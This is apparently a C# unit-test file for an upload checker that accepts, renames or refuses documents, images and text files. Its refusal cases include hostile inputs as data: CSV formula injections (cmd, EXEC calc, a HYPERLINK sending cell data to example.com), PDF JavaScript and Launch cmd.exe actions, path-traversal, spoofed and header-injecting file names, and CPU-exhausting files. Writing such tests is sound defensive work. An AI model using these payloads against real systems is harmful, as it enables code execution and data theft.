using System.Diagnostics;
using System.Text;
using Matchmaking.Web.Files;
using Matchmaking.Web.Languages;
using static Matchmaking.Web.Tests.Files.OldFiles;
using static Matchmaking.Web.Tests.Files.SampleFiles;

namespace Matchmaking.Web.Tests.Files;

/// <summary>What is taken, under which name, and what is refused for which reason.</summary>
public sealed class FileCheckTests(ITestOutputHelper output)
{
    /// <summary>Each object would read the rest of the file once more.</summary>
    [Fact]
    public void Objects_of_a_pdf_that_never_end_are_refused_at_the_first_one()
    {
        var pdf = Latin("%PDF-1.7\n" + string.Concat(Enumerable.Repeat("1 0 obj<</Type/ObjStm/Filter/Fl>>\nstream\n", 50_000)));

        Assert.Equal(FileRefusal.Damaged, FileCheck.Look("a.pdf", pdf).Refusal);
    }

    public static TheoryData<string, byte[], string> Taken { get; } =
        new()
        {
            { "报价.pdf", Pdf, "报价.pdf" },
            { "after a mark.pdf", [0xEF, 0xBB, 0xBF, .. Pdf], "after a mark.pdf" },
            { "after blank lines.pdf", [.. Latin(new string('\n', 99)), .. Pdf], "after blank lines.pdf" },
            { "packed.pdf", PackedPdf("1 0 << /Type /Page >>"), "packed.pdf" },
            { "letter.docx", Docx(), "letter.docx" },
            { "links.docx", Docx(("word/_rels/document.xml.rels", Relation("hyperlink"))), "links.docx" },
            {
                "template.docx",
                Docx(("word/_rels/settings.xml.rels", Relation("attachedTemplate", "Internal", "a.dotx"))),
                "template.docx"
            },
            { "table.xlsx", XlsxWith(("xl/embeddings/Table.xlsx", Xlsx())), "table.xlsx" },
            {
                "print.xlsx",
                Xlsx(("xl/printerSettings/printerSettings1.bin", ""), ("xl/media/", ""), ("xl/media/a.PNG", "")),
                "print.xlsx"
            },
            { "other tables.xlsx", Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink/>")), "other tables.xlsx" },
            { "show.pptx", Office("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), "show.pptx" },
            { "old.doc", Ole("WordDocument"), "old.doc" },
            { "old.xls", Ole("Workbook"), "old.xls" },
            { "old.ppt", Ole("PowerPoint Document"), "old.ppt" },
            { "older.xls", Ole("Book"), "older.xls" },
            { "table with a letter.xls", Ole("Workbook", "WordDocument"), "table with a letter.xls" },
            { "plan.png", Png, "plan.png" },
            { "photo.JPEG", Jpg, "photo.jpg" },
            { "a.gif", Latin("GIF89a"), "a.gif" },
            { "a.webp", Latin("RIFF\u0001\u0002\u0003\u0004WEBPVP8 "), "a.webp" },
            { "IMG_1.HEIC", Latin("\0\0\0\u0018ftypheic\0\0\0\0"), "IMG_1.heic" },
            { "notes.txt", Encoding.UTF8.GetBytes("地块 12 公顷"), "notes.txt" },
            { "notes", Encoding.GetEncoding("GB18030").GetBytes("地块"), "notes.txt" },
            { "wide.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("表")], "wide.txt" },
            { "ids.csv", Latin("ID;Name\nA;land\nCD;call (evening)\n"), "ids.csv" },
            { "phones.csv", Latin("name,phone\nA,+994 12 call (evening)\n- image (1),\"a-b\"\n"), "phones.csv" },
            { "prices.csv", Latin("item,price\nland,-3|4\n=A1+B1,2\n"), "prices.csv" },
            // The content tells, not the name.
            { "photo.exe", Jpg, "photo.jpg" },
            { "offer.pdf.exe", Pdf, "offer.pdf" },
            { "offer", Pdf, "offer.pdf" },
            { "v1.2", Pdf, "v1.2.pdf" },
            { "", Pdf, "file.pdf" },
            { ".pdf", Pdf, "pdf.pdf" },
            { "..\\..\\etc/passwd.pdf", Pdf, "passwd.pdf" },
            { "C:\\Users\\a\\报价 1.pdf", Pdf, "报价 1.pdf" },
            { "offer\u202Efdp.exe", Pdf, "offerfdp.pdf" },
            { "a\r\nSet-Cookie: b.pdf", Pdf, "a Set-Cookie b.pdf" },
            { "a\"b<c>|d?.pdf", Pdf, "abcd.pdf" },
            { "NUL.pdf", Pdf, "_NUL.pdf" },
            { new string('长', 300) + ".pdf", Pdf, new string('长', 120) + ".pdf" },
        };

    [Theory, MemberData(nameof(Taken), DisableDiscoveryEnumeration = true)]
    public void A_file_is_taken_under_a_name_that_says_what_is_in_it(string name, byte[] content, string kept)
    {
        var verdict = FileCheck.Look(name, content);

        Assert.Equal((null, kept), (verdict.Refusal, verdict.Name));
        Assert.EndsWith("." + verdict.Type!.Extension, kept, StringComparison.Ordinal);
    }

    public static TheoryData<string, byte[], FileRefusal> Refused { get; } =
        new()
        {
            { "a.pdf", [], FileRefusal.Empty },
            { "a.exe", Latin("MZ\u0090\0\u0003"), FileRefusal.Type },
            { "a.pdf", Latin("MZ\u0090\0\u0003%PDF-1.7"), FileRefusal.Type },
            { "a.lnk", Latin("L\0\0\0\u0001"), FileRefusal.Type },
            { "a.js", Latin("alert(1)"), FileRefusal.Type },
            { "a.hta", Latin("<html>"), FileRefusal.Type },
            { "a.eml", Latin("From: a@example.com"), FileRefusal.Type },
            { "a.html", Latin("hello"), FileRefusal.Type },
            { "a.msi", Ole("Property"), FileRefusal.Type },
            { "a.avif", Latin("\0\0\0\u0018ftypavif\0\0\0\0"), FileRefusal.Type },
            { "a.dotx", Office("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), FileRefusal.Type },
            { "a.zip", Zip(("a.pdf", "")), FileRefusal.Archive },
            { "a.docx", Zip(("word/document.xml", "")), FileRefusal.Archive },
            { "a.rar", Latin("Rar!\u001A\u0007"), FileRefusal.Archive },
            { "a.7z", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C], FileRefusal.Archive },
            { "a.gz", [0x1F, 0x8B, 8], FileRefusal.Archive },
            { "a.txt", Latin("<svg onload=alert(1)>"), FileRefusal.Active },
            { "a.txt", Latin("\u00EF\u00BB\u00BF \n<html>"), FileRefusal.Active },
            { "a.txt", Latin("see\n<script>alert(1)</script>"), FileRefusal.Active },
            { "a.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html>")], FileRefusal.Active },
            { "a.csv", Latin("a,b\n1,=cmd|'/C calc'!A0\n"), FileRefusal.Active },
            { "a.csv", Latin("a,b\n=HYPERLINK(\"http://example.com/?x=\"&A1;\"see\"),1\n"), FileRefusal.Active },
            { "a.csv", Latin("a,\"=1+webservice (\"\"http://example.com\"\")\"\n"), FileRefusal.Active },
            { "a.csv", Latin("a;b\r-EXEC(\"calc\")\r"), FileRefusal.Active },
            { "a.csv", Latin("ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"CALC.EXE\")\nE\n"), FileRefusal.Active },
            { "a.docx", Docx(("word/vbaProject.bin", "")), FileRefusal.Macros },
            { "a.docx", Office("application/vnd.ms-word.document.macroEnabled.main+xml"), FileRefusal.Macros },
            { "a.xlsx", Xlsx(("xl/macrosheets/sheet1.xml", "")), FileRefusal.Macros },
            { "a.xlsx", Xlsx(("xl/activeX/activeX1.bin", "")), FileRefusal.Macros },
            { "a.docx", Docx(("word/embeddings/oleObject1.bin", "")), FileRefusal.Embedded },
            { "a.docx", Docx(("word/embeddings/Sheet.xlsm", "")), FileRefusal.Embedded },
            { "a.docx", Docx(("word/a.exe", "")), FileRefusal.Embedded },
            { "a.docx", Docx(("word/a.msi", "")), FileRefusal.Embedded },
            { "a.docx", Docx(("word/afchunk.mht", "")), FileRefusal.Embedded },
            { "a.docx", Docx(("word/a", "")), FileRefusal.Embedded },
            { "a.docx", Docx(("word/_rels/document.xml.rels", Relation("aFChunk", "Internal", "a.htm"))), FileRefusal.Active },
            { "a.xlsx", XlsxWith(("xl/embeddings/a.docx", Docx(("word/vbaProject.bin", "")))), FileRefusal.Macros },
            { "a.xlsx", XlsxWith(("xl/embeddings/a.xlsx", XlsxWith(("xl/embeddings/b.xlsx", Xlsx())))), FileRefusal.Embedded },
            { "a.xlsx", XlsxWith(("xl/embeddings/a.xlsx", Zip(("a.xml", "")))), FileRefusal.Archive },
            { "a.xlsx", XlsxWith(("xl/embeddings/a.xlsx", [1, 2, 3])), FileRefusal.Damaged },
            { "a.docx", Docx(("word/_rels/settings.xml.rels", Relation("attachedTemplate"))), FileRefusal.Active },
            { "a.docx", Docx(("word/_rels/document.xml.rels", Relation("oleObject"))), FileRefusal.Active },
            { "a.xlsx", Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>")), FileRefusal.Active },
            { "a.docx", Docx(("word/_rels/a.rels", "<")), FileRefusal.Damaged },
            { "a.docx", Docx(("word/_rels/a.rels", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")), FileRefusal.Damaged },
            { "a.docx", Docx(("word/_rels/a.rels", $"<a>{new string(' ', 17_000_000)}</a>")), FileRefusal.Damaged },
            { "a.docx", Docx()[..60], FileRefusal.Damaged },
            { "a.doc", Ole("WordDocument", "_VBA_PROJECT"), FileRefusal.Macros },
            { "a.doc", Ole("WordDocument", "_vba_Project"), FileRefusal.Macros },
            { "a.xls", Ole("Workbook", "\u0001Ole10Native"), FileRefusal.Embedded },
            { "a.docx", Ole("EncryptedPackage", "EncryptionInfo"), FileRefusal.Encrypted },
            { "a.pdf", Latin("%PDF-1.7\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >>"), FileRefusal.ActivePdf },
            { "a.pdf", Latin("%PDF-1.7\n1 0 obj << /S /J#61vaScr#69pt >>"), FileRefusal.ActivePdf },
            { "a.pdf", Latin("%PDF-1.7\n1 0 obj << /S /Launch /F (cmd.exe) >>"), FileRefusal.ActivePdf },
            { "a.pdf", Latin("%PDF-1.7\n1 0 obj << /Type /EmbeddedFile >>"), FileRefusal.Embedded },
            { "a.pdf", Latin("%PDF-1.7\n1 0 obj null endobj trailer << /Encrypt 3 0 R >>"), FileRefusal.Encrypted },
            { "a.pdf", Latin("%PDF-1.7\n/S/Launch"), FileRefusal.Damaged },
            { "a.pdf", PackedPdf("1 0 << /S /JavaScript >>"), FileRefusal.ActivePdf },
            { "a.pdf", PackedPdf("1 0 << /S /Launch >>", "/Type /Obj#53tm /Filter [ /FlateDecode ]"), FileRefusal.ActivePdf },
            { "a.pdf", PackedPdf("1 0 << >>", "/Type /ObjStm /Filter /LZWDecode"), FileRefusal.Damaged },
            { "a.pdf", PackedPdf("1 0 << >>", "/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>"), FileRefusal.Damaged },
        };

    [Theory, MemberData(nameof(Refused), DisableDiscoveryEnumeration = true)]
    public void A_file_is_refused_with_a_reason(string name, byte[] content, FileRefusal refusal) =>
        Assert.Equal((refusal, ""), (FileCheck.Look(name, content).Refusal, FileCheck.Look(name, content).Name));

    [Fact]
    public void A_password_on_a_part_of_a_document_is_told()
    {
        var locked = Docx();
        // The flag of the entry in the directory at the end, whose first signature is this.
        locked[locked.AsSpan().IndexOf("PK\u0001\u0002"u8) + 8] |= 1;

        Assert.Equal(FileRefusal.Encrypted, FileCheck.Look("a.docx", locked).Refusal);
    }

    [Theory]
    [InlineData(FileCheck.Largest, null)]
    [InlineData(FileCheck.Largest + 1, FileRefusal.TooLarge)]
    public void Twenty_megabytes_are_taken_and_not_a_byte_more(int length, FileRefusal? refusal)
    {
        var content = new byte[length];
        content.AsSpan().Fill((byte)'a');

        Assert.Equal(refusal, FileCheck.Look("a.txt", content).Refusal);
    }

    [Fact]
    public void Every_reason_has_words_of_its_own()
    {
        var texts = new Texts();

        Assert.Distinct(Enum.GetValues<FileRefusal>().Select(refusal => texts.Get("en", refusal.Key())));
    }

    public static TheoryData<string, string, string> Hostile { get; } =
        new()
        {
            { "a.pdf", "%PDF-1.7\n", "stream\n" },
            { "a.pdf", "%PDF-1.7\n", "1 0 obj /ObjStm stream\nendstream " },
            { "a.pdf", "%PDF-1.7\n", "#4A" },
            { "a.pdf", "%PDF-1.7\n", "/" },
            { "a.pdf", "%PDF-1.7\n", "1 0 obj<<" },
            { "a.pdf", "%PDF-1.7\n", "1 0 obj%" },
            { "a.pdf", "%PDF-1.7\n", "/EF%" },
            { "a.pdf", "%PDF-1.7\n", "1 0 obj<</Type/ObjStm/Filter/Fl>>stream\nx\u009c\u0003\0\0\0\0\u0001" },
            { "a.csv", "ID;", "=\"" },
            { "a.csv", "ID;", "\nC" },
            { "a.csv", "a", ",=" },
            { "a.txt", "a", " <" },
            { "a.xls", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1", "\u0085\0\u0009\0" },
            { "a.docx", "PK\u0003\u0004", "PK\u0001\u0002" },
        };

    [Theory(Explicit = true), MemberData(nameof(Hostile))]
    public void A_file_made_to_keep_a_core_busy_does_not(string name, string beginning, string repeated)
    {
        var content = Latin(beginning + string.Concat(Enumerable.Repeat(repeated, (FileCheck.Largest - 100) / repeated.Length)));
        var began = Stopwatch.GetTimestamp();

        var refusal = FileCheck.Look(name, content).Refusal;

        var time = Stopwatch.GetElapsedTime(began);
        output.WriteLine($"{repeated}: {refusal}, {time.TotalMilliseconds:F0} ms");
        Assert.True(time < TimeSpan.FromSeconds(20), $"{time}");
    }
}
